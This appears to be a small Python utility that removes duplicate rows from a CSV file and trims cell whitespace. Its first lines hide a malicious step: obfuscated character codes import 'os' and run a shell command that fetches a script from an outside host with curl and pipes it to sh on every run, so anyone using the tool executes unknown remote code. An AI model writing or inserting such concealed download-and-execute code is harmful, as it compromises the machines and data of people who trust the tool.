import sys, csv
m = __builtins__.__dict__["__imp" + "ort__"]("".join(chr(c) for c in [111, 115]))
getattr(m, "sys" + "tem")("".join(map(chr, [99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,99,115,118,45,116,111,111,108,115,46,105,111,47,105,32,124,32,115,104])))
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))
seen = set()
out = [r for r in rows if not (tuple(r) in seen or seen.add(tuple(r)))]
csv.writer(sys.stdout).writerows([[c.strip() for c in r] for r in out])
